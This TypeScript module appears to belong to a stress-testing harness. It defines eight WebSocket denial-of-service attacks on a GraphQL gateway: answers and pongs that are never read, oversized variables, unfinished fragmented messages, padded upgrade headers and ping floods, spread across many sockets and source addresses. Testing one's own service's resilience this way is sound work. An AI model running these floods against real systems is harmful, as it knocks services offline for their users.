import { once, setMaxListeners } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import WebSocket from 'ws';
import type { Attack, Target } from './attack.js';
import { attackerAddress } from './http-client.js';

/** The time in which hundreds of sockets are opened. */
const LEAST_SECONDS = 3;
/** A query with a large answer, for sockets that are never read. */
const SEAT_MAPS = '{ shows(first: 39) { nodes { id seats { label row number status tier { code } } } } }';
const OPENED_AT_ONCE = 50;
/** The bytes that may wait in the attacker's own process. */
const MAX_BUFFERED = 1_000_000;

interface SocketAttack {
  readonly name: string;
  readonly title: string;
  readonly sockets: number;
  /** Whether the client stops reading once the connection is acknowledged. */
  readonly isDeaf?: boolean;
  readonly headers?: Readonly<Record<string, string>>;
  /** Called for each connection once it is acknowledged. */
  readonly use: (socket: WebSocket, target: Target, signal: AbortSignal) => void;
}

/**
 * Holds WebSockets, which it opens a few at a time. It counts one that the gateway ends, by its code, and opens
 * another.
 */
function socketAttack({ name, title, sockets, isDeaf = false, headers = {}, use }: SocketAttack): Attack {
  return {
    name,
    title: `${title}, on ${sockets} WebSockets`,
    leastSeconds: LEAST_SECONDS,
    async run(target, signal, count) {
      const opened = new Set<WebSocket>();
      let number = 0;
      setMaxListeners(0, signal);
      const open = () => {
        if (signal.aborted) return;
        const socket = new WebSocket(`${target.url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws', {
          localAddress: attackerAddress((number += 1)),
          headers,
        });
        opened.add(socket);
        socket.on('error', () => undefined);
        socket.once('open', () => socket.send(JSON.stringify({ type: 'connection_init' })));
        socket.once('message', () => {
          count('acknowledged');
          if (isDeaf) socket.pause();
          if (!signal.aborted) use(socket, target, signal);
        });
        socket.once('close', (code) => {
          opened.delete(socket);
          count(`closed ${code}`);
          setTimeout(open, 200).unref();
        });
      };
      for (let n = 0; n < sockets && !signal.aborted; n += 1) {
        open();
        if (n % OPENED_AT_ONCE === OPENED_AT_ONCE - 1) await sleep(50);
      }
      if (!signal.aborted) await once(signal, 'abort');
      for (const socket of opened) socket.removeAllListeners('close').terminate();
    },
  };
}

/** Sends `count` messages every `everyMs`, as fast as they leave this process. */
function keepSending(
  socket: WebSocket,
  signal: AbortSignal,
  { everyMs, count }: { readonly everyMs: number; readonly count: number },
  message: (n: number) => string,
): void {
  let n = 0;
  const timer = setInterval(() => {
    if (signal.aborted || socket.readyState !== WebSocket.OPEN) return clearInterval(timer);
    for (let sent = 0; sent < count && socket.bufferedAmount < MAX_BUFFERED; sent += 1) socket.send(message((n += 1)));
    // The gateway's pings are answered, although nothing else is read: otherwise it would end the connection for that
    // reason.
    socket.pong();
    return undefined;
  }, everyMs);
}

const subscribe = (id: number, query: string, variables?: unknown) =>
  JSON.stringify({ id: String(id), type: 'subscribe', payload: { query, variables } });
const BIG_PING = JSON.stringify({ type: 'ping', payload: { a: 'x'.repeat(250_000) } });
const UNDECLARED = { x: Array.from({ length: 21_000 }, () => ({})) };

/** Attacks on memory and processor with messages over one or many WebSockets. */
export const websocketAttacks: readonly Attack[] = [
  socketAttack({
    name: 'ws-unread-answers',
    title: 'Large answers that are never read, one asked for every 100 ms',
    sockets: 20,
    isDeaf: true,
    use: (socket, _target, signal) =>
      keepSending(socket, signal, { everyMs: 100, count: 1 }, (n) => subscribe(n, SEAT_MAPS)),
  }),
  socketAttack({
    name: 'ws-unread-pongs',
    title: 'Pings of 250 kB whose pongs are never read',
    sockets: 20,
    isDeaf: true,
    use: (socket, _target, signal) => keepSending(socket, signal, { everyMs: 5, count: 10 }, () => BIG_PING),
  }),
  socketAttack({
    name: 'ws-unread-refusals',
    title: 'Operations that are refused, whose errors are never read',
    sockets: 20,
    isDeaf: true,
    use: (socket, _target, signal) =>
      keepSending(socket, signal, { everyMs: 5, count: 500 }, (n) => subscribe(n, `{ x${'y'.repeat(150)} }`)),
  }),
  socketAttack({
    name: 'ws-variables',
    title: 'Twenty subscriptions each with 21,000 objects in a variable that nobody declares',
    sockets: 20,
    use(socket, { showId }) {
      for (let n = 0; n < 20; n += 1)
        socket.send(
          subscribe(n, `subscription { seatMapChanged(showId: "${showId}") { seatMapVersion } } # ${n}`, UNDECLARED),
        );
    },
  }),
  socketAttack({
    name: 'ws-fragments',
    title: 'Messages of 16,300 fragments that never end',
    sockets: 100,
    use(socket, _target, signal) {
      let left = 16_300;
      const timer = setInterval(() => {
        if (signal.aborted || left === 0 || socket.readyState !== WebSocket.OPEN) return clearInterval(timer);
        for (let sent = 0; sent < 100 && left > 0; sent += 1, left -= 1) socket.send(' ', { fin: false });
        return undefined;
      }, 5);
    },
  }),
  socketAttack({
    name: 'ws-unfinished',
    title: 'A message of 262,000 bytes that never ends',
    sockets: 1_500,
    use: (socket) => socket.send(Buffer.alloc(262_000, 0x20), { fin: false, binary: false }),
  }),
  socketAttack({
    name: 'ws-upgrades',
    title: 'Nothing but an upgrade with headers of 15 kB',
    sockets: 1_500,
    headers: Object.fromEntries(Array.from({ length: 30 }, (_, n) => [`x-padding-${n}`, 'x'.repeat(480)])),
    use: () => undefined,
  }),
  socketAttack({
    name: 'ws-ping-flood',
    title: 'Pings without end, whose pongs are read',
    sockets: 20,
    use: (socket, _target, signal) => keepSending(socket, signal, { everyMs: 1, count: 500 }, () => '{"type":"ping"}'),
  }),
];
